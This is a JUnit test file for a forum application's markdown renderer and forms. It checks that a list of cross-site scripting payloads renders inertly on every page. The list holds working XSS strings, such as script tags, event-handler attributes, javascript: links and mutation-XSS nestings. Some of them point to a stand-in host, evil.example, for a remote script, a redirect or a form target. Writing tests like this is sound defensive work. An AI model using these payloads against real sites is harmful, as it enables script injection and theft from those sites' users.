package org.entente.desk.member;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Map;
import org.entente.desk.Desk;
import org.entente.desk.Markdown;
import org.entente.desk.TestDesk;
import org.entente.desk.Visitor;
import org.entente.store.Comment;
import org.entente.store.Comments;
import org.entente.store.Member;
import org.entente.store.Members;
import org.entente.store.Moderation;
import org.entente.store.Post;
import org.entente.store.Post.CommentMode;
import org.entente.store.Posts;
import org.entente.store.Role;
import org.entente.store.Store;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

/** Whatever members and strangers write into whatever field, no page holds anything that acts. */
class ScriptsTest {
  private static final List<String> CORPUS =
      List.of(
          "<script>window.pwned=1</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<img src=x onerror=window.pwned=1>",
          "<svg/onload=window.pwned=1>",
          "<svg><script>window.pwned=1</script></svg>",
          "\"><script>window.pwned=1</script>",
          "' onmouseover='window.pwned=1",
          "\" autofocus onfocus=\"window.pwned=1",
          "</textarea><script>window.pwned=1</script>",
          "</title><script>window.pwned=1</script>",
          "<iframe srcdoc='<script>parent.pwned=1</script>'>",
          "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
          "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
          "<a href=\"javascript:window.pwned=1\">x</a>",
          "[x](javascript:window.pwned=1)",
          "[x](JaVaScRiPt:window.pwned=1)",
          "[x](java&#x09;script:window.pwned=1)",
          "[x](data:text/html;base64,PHNjcmlwdD4=)",
          "[x](vbscript:window.pwned=1)",
          "![x](javascript:window.pwned=1)",
          "![x\" onerror=\"window.pwned=1](x)",
          "[x](https://example.org \"t\\\" onmouseover=window.pwned=1\")",
          "<https://example.org/\" onmouseover=window.pwned=1>",
          "[a]: javascript:window.pwned=1\n\n[a]",
          "```\"><script>window.pwned=1</script>\nx\n```",
          "&lt;script&gt;window.pwned=1&lt;/script&gt;",
          "&#60;script&#62;window.pwned=1&#60;/script&#62;",
          "<style>*{background:url(javascript:window.pwned=1)}</style>",
          "<form action=//evil.example><button>x</button></form>",
          "<base href=//evil.example/>",
          "<meta http-equiv=refresh content='0;url=//evil.example'>",
          "<object data=javascript:window.pwned=1>",
          "<details open ontoggle=window.pwned=1>",
          "${7*7}",
          "{{7*7}}",
          "@`<script>window.pwned=1</script>`");

  @Test
  void markdownLetsNothingThrough() {
    Markdown markdown = new Markdown();
    for (String attack : CORPUS) {
      harmless(Jsoup.parseBodyFragment(markdown.comment(attack)), attack);
      harmless(Jsoup.parseBodyFragment(markdown.post(attack)), attack);
    }
  }

  @Test
  void noFieldOfAnyFormActs() {
    try (Desk desk = TestDesk.fresh()) {
      Store store = TestDesk.store(desk);
      Visitor administrator = Visitor.signedIn(desk, "Admin", Role.ADMINISTRATOR);
      Member author = new Members(store).bySignIn("Admin").orElseThrow();
      Visitor stranger = Visitor.at(desk);
      for (String attack : CORPUS) {
        Post post = attacked(store, author, attack);
        fields(desk, administrator, attack);
        harmless(stranger.signIn(attack, attack).body(), attack);
        harmless(stranger.get("/posts/" + post.address()).body(), attack);
        harmless(administrator.get("/posts/" + post.address()).body(), attack);
      }
      for (String path :
          List.of("/posts", "/moderation", "/members", "/acts", "/account", "/comments.atom")) {
        harmless(administrator.get(path).body(), path);
      }
    }
  }

  /** A post, comments and reports that say it, as if no form had looked. */
  private static Post attacked(Store store, Member author, String attack) {
    Posts posts = new Posts(store);
    Post post = posts.add(author, new Posts.Draft(attack, attack, CommentMode.OPEN));
    Comments comments = new Comments(store);
    Comment comment =
        comments.add(
            author,
            new Comments.Said(
                posts.set(post, Post.State.PUBLISHED).id(),
                null,
                new org.entente.store.Quoted("lead", 0, 1, attack),
                attack,
                Integer.toHexString(attack.hashCode()) + "0123456789abcdef"));
    comments.report(author, comment.id(), attack);
    new Moderation(store).act(author, comment.id(), Moderation.Act.PIN, attack);
    comments.report(author, comment.id(), attack);
    return post;
  }

  private static void fields(Desk desk, Visitor administrator, String attack) {
    String line = attack.replace('\n', ' ');
    harmless(
        administrator
            .post("/members", "/members/invitations", Map.of("role", "MEMBER", "note", line))
            .body(),
        attack);
    harmless(
        Visitor.at(desk)
            .post("/join", "/join", Map.of("name", line, "mail", line, "words", attack))
            .body(),
        attack);
  }

  private static void harmless(String page, String attack) {
    harmless(Jsoup.parse(page), attack);
  }

  private static void harmless(Document page, String attack) {
    for (Element element : page.getAllElements()) {
      String name = element.normalName();
      assertThat(name)
          .as(attack)
          .isNotIn("iframe", "object", "embed", "base", "style", "math", "svg", "img");
      if (name.equals("script") && element.attr("type").equals("application/ld+json")) {
        assertThat(element.data()).as(attack).isNotBlank().doesNotContain("<"); // data, never run
      } else if (name.equals("script")) {
        assertThat(element.attr("src")).as(attack).startsWith("/assets/");
      }
      if (name.equals("meta")) {
        assertThat(element.attr("http-equiv")).as(attack).isEmpty();
      }
      if (name.equals("form")) {
        assertThat(element.attr("action")).as(attack).startsWith("/");
      }
      for (Attribute attribute : element.attributes()) {
        assertThat(attribute.getKey()).as(attack).doesNotStartWith("on");
        if (List.of("href", "src", "action", "formaction").contains(attribute.getKey())) {
          assertThat(attribute.getValue())
              .as(attack)
              .matches("(?s)(https?:|mailto:|/(?!/)|#|[a-z]+$).*");
        }
      }
    }
  }
}
